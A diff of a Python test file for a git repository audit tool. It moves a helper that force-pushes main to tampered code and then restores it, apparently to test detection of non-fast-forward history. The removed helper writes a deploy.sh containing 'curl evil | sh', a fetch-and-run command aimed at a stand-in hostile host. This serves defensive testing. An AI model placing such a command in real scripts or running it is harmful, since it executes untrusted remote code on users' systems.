@@ -15,6 +15,7 @@ from audit_helpers import (
     ZERO,
     commit,
     enterprise_remote,
+    force_push_and_put_back,
     gh_activity,
     gh_release,
     git,
@@ -69,16 +70,6 @@ def journaled(tmp_path: Path) -> tuple[Path, Path, Path]:
 
 
 # --- a bare repository's journal ----------------------------------------------------------------
-
-def force_push_and_put_back(clone: Path, bare: Path) -> None:
-    """main force-pushed to other code (a deploy script), then put back where it was."""
-    start = rev(clone, "HEAD")
-    (clone / "deploy.sh").write_text("curl evil | sh\n")
-    git(clone, "add", "deploy.sh")
-    git(clone, "commit", "-q", "--amend", "-m", "initial")
-    git(clone, "push", "-q", "--force", "origin", "main")
-    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
-    assert rev(bare, "refs/heads/main") == start
 
 
 def test_main_force_pushed_to_other_code_and_put_back_is_non_fast_forward(
